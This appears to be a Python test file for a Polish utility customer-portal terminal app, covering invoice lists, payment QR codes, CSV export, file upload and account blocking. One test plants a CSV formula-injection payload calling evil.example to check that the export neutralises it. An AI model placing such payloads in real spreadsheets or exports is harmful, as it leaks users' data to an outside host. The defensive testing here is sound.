"""Faktury, Rozrachunki, Umowy, Dokumenty, Ustawienia: lists, details, files, payment."""

from __future__ import annotations

import csv
import json

from textual.widgets import DataTable, Input, Select

from ibok_tui.domain.models import AccountStatus
from ibok_tui.screens.account.login import LoginScreen
from ibok_tui.screens.customer.contracts import ContractsScreen
from ibok_tui.screens.customer.payment import PaymentDialog
from ibok_tui.screens.forms.dialogs import PasswordConfirmDialog
from ibok_tui.screens.forms.file_picker import FilePickerDialog
from ibok_tui.screens.forms.invoice_detail import InvoiceDialog
from ibok_tui.widgets.qr import QrCode
from tests.support import scans
from tests.ui.console_support import SIZE, Console, settle, text_of


async def test_invoices_sorted_filtered_detail_and_pdf(console: Console) -> None:
    app = console.app(console.backend("100004"))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("2")
        await settle(pilot)
        table = app.screen.query_one("#invoices-table", DataTable)
        dates = [str(table.get_row_at(i)[2]) for i in range(table.row_count)]
        as_iso = ["-".join(reversed(d.split("."))) for d in dates]
        assert as_iso == sorted(as_iso, reverse=True)
        app.screen.query_one("#invoice-status", Select).value = "paid"
        await settle(pilot)
        statuses = {str(table.get_row_at(i)[8]) for i in range(table.row_count)}
        assert statuses == {"zapłacona"}
        app.screen.query_one("#invoice-status", Select).clear()
        app.screen.query_one("#invoice-from", Input).value = "01.01.2026"
        await settle(pilot)
        assert all(
            d.endswith("2026")
            for d in (str(table.get_row_at(i)[2]) for i in range(table.row_count))
        )
        first = str(table.get_row_at(0)[0])
        table.focus()
        await pilot.press("enter")
        await settle(pilot)
        assert isinstance(app.screen, InvoiceDialog)
        assert app.screen.invoice.number == first
        assert app.screen.invoice.lines
        assert "Razem" in text_of(app, "#invoice-lines")
        await pilot.press("p")
        await settle(pilot)
        assert len(console.opened) == 1
        pdf = console.opened[0]
        assert pdf.parent == console.downloads
        assert pdf.read_bytes().startswith(b"%PDF")


async def test_settlements_unpaid_and_the_payment_qr_code(console: Console) -> None:
    app = console.app(console.backend("200001"))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("3")
        await settle(pilot)
        assert "Zaległe:" in text_of(app, "#balance-box")
        assert "Noty odsetkowe:" in text_of(app, "#balance-box")
        await pilot.press("n")
        await settle(pilot)
        table = app.screen.query_one("#settlements-table", DataTable)
        to_pay = [str(table.get_row_at(i)[6]) for i in range(table.row_count)]
        assert to_pay and all(value != "0,00\xa0zł" for value in to_pay)
        await pilot.press("z")
        await settle(pilot)
        assert isinstance(app.screen, PaymentDialog)
        details = app.screen.details
        qr = app.screen.query_one(QrCode)
        assert qr.payload == details.qr_payload
        assert details.qr_payload.split("|")[2] == details.account
        drawn = text_of(app, "QrCode")
        assert "█" in drawn and "▀" in drawn


async def test_every_list_exports_csv_and_copies_tsv(console: Console) -> None:
    app = console.app(console.backend("100001"))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("2")
        await settle(pilot)
        await pilot.press("c")
        lines = app.clipboard.splitlines()
        assert lines[0].split("\t")[:3] == ["Numer", "Rodzaj", "Wystawiona"]
        assert len(lines) == 37
        await pilot.press("e")
        await settle(pilot)
        files = list(console.downloads.glob("ibok-faktury-*.csv"))
        assert len(files) == 1
        with files[0].open(encoding="utf-8-sig") as handle:
            rows = list(csv.reader(handle, delimiter=";"))
        assert rows[0][0] == "Numer" and len(rows) == 37
        assert rows[1][0] == "FV/100001/036"


async def test_contract_scan_is_uploaded_through_the_file_picker(console: Console) -> None:
    scan = console.folder / "skan-umowy.pdf"
    scan.write_bytes(scans.pdf())
    app = console.app(console.backend("100001"))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("8")
        await settle(pilot)
        assert isinstance(app.screen, ContractsScreen)
        before = len(app.screen.contracts[0].scans)
        await pilot.press("s")
        await settle(pilot)
        assert isinstance(app.screen, FilePickerDialog)
        app.screen.query_one("#file-path", Input).value = str(console.folder / "brak.pdf")
        await pilot.click("#choose")
        assert text_of(app, "#file-message") == "Wybierz istniejący plik."
        path_field = app.screen.query_one("#file-path", Input)
        path_field.value = str(scan)
        path_field.focus()
        await pilot.press("enter")
        await settle(pilot)
        assert isinstance(app.screen, ContractsScreen)
        assert len(app.screen.contracts[0].scans) == before + 1
        await pilot.press("9")
        await settle(pilot)
        table = app.screen.query_one(DataTable)
        column = [str(key.value) for key in table.columns].index("file")
        files = [str(table.get_row_at(i)[column]) for i in range(table.row_count)]
        assert "skan-umowy.pdf" in files
        table.move_cursor(row=files.index("skan-umowy.pdf"))
        await pilot.press("d")
        await settle(pilot)
        assert console.opened[-1].read_bytes() == scans.pdf()


async def test_settings_export_and_block_access(console: Console) -> None:
    app = console.app(console.backend("100001"))
    async with app.run_test(size=SIZE) as pilot:
        await pilot.press("u")
        await settle(pilot)
        await pilot.press("x")
        await settle(pilot)
        exported = console.downloads / "ibok-dane-100001.json"
        assert json.loads(exported.read_text(encoding="utf-8"))
        await pilot.click("#block")
        await settle(pilot)
        assert isinstance(app.screen, PasswordConfirmDialog)
        await pilot.click("#cancel")
        await settle(pilot)
        assert app.backend.session is not None
        await pilot.click("#block")
        await settle(pilot)
        app.screen.query_one("#confirm-password", Input).value = "Woda!Kowalski1"
        await pilot.click("#confirm")
        await settle(pilot, rounds=5)
        assert isinstance(app.screen, LoginScreen)
    row = console.service.store.one("SELECT status FROM customers WHERE number = '100001'")
    assert row is not None and row["status"] == AccountStatus.BLOCKED_BY_CUSTOMER.value


async def test_faktury_exported_reads_back_as_numbers_dates_and_neutralised_text(
    console: Console,
) -> None:
    """A hostile invoice number becomes text; amounts are numbers; dates ISO (issue #11)."""
    import dataclasses

    from ibok_tui.screens.customer.invoices import InvoicesScreen

    hostile = '=HYPERLINK("http://evil.example/?x="&A1;"Faktura")'
    app = console.app(console.backend("100001"))
    async with app.run_test(size=SIZE) as pilot:
        for language, delimiter, to_pay in (
            ("pl", ";", "Do zapłaty [zł]"),
            ("en", ",", "To pay [PLN]"),
        ):
            if language == "en":
                await app.change_language("en")
            await pilot.press("2")
            await settle(pilot)
            screen = app.screen
            assert isinstance(screen, InvoicesScreen)
            first = screen.invoices[0]
            screen.invoices[0] = dataclasses.replace(first, number=hostile)  # a hostile server
            screen.refill()
            await settle(pilot)
            for old in console.downloads.glob("*.csv"):
                old.unlink()
            await pilot.press("e")
            await settle(pilot)
            (path,) = console.downloads.glob("ibok-faktury-*.csv")
            assert path.read_bytes().startswith(b"\xef\xbb\xbf")
            with path.open(encoding="utf-8-sig", newline="") as handle:
                rows = list(csv.reader(handle, delimiter=delimiter))
            header = rows[0]
            assert to_pay in header
            assert len(rows) == 37 and all(len(r) == len(header) for r in rows)
            row = dict(zip(header, rows[1], strict=True))
            assert row[header[0]] == "'" + hostile
            amount = f"{first.to_pay / 100:.2f}"
            assert row[to_pay] == (amount.replace(".", ",") if language == "pl" else amount)
            assert row[header[2]] == first.issue_date.isoformat()
            assert not any("zł" in c or "PLN" in c for r in rows[1:] for c in r)
            await pilot.press("c")
            copied = list(csv.reader(app.clipboard.splitlines(), dialect="excel-tab"))
            assert copied[1][0] == "'" + hostile and len(copied) == 37
